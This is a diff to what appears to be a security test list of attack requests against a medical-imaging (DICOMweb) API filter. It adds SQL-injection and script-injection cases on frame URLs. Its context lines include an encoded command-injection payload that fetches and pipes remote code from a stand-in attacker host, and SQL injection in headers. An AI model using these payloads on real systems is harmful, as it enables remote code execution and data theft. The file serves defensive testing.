@@ -222,6 +222,9 @@ ATTACKS: list[tuple[str, str, str, dict[str, str], bytes | None]] = [
     ("rce-qido-subshell", "GET", f"{BASE}/studies?AccessionNumber=%24(curl%20http%3A%2F%2Fevil.example%2Fx%7Csh)", JSON, None),
     ("sqli-user-agent", "GET", f"{BASE}/studies", {**JSON, "User-Agent": SQLI}, None),
     ("sqli-cookie", "GET", f"{BASE}/studies", {**JSON, "Cookie": f"session={SQLI}"}, None),
+    # a frame URL is left uninspected only without a cookie or a query string (the profile's wado-uid-paths)
+    ("sqli-cookie-frame", "GET", f"{INST}/frames/1", {"Accept": FRAMES_ACCEPT, "Cookie": f"session={SQLI}"}, None),
+    ("xss-frame-query", "GET", f"{INST}/frames/1?x=%3Cscript%3Ealert(1)%3C%2Fscript%3E", {"Accept": FRAMES_ACCEPT}, None),
     ("sqli-json", "POST", f"{BASE}/search", {"Content-Type": "application/json"},
      b'{"PatientName": "' + SQLI.encode() + b'"}'),
     ("xss-dicom-json", "POST", f"{BASE}/studies", {"Content-Type": "application/dicom+json"},
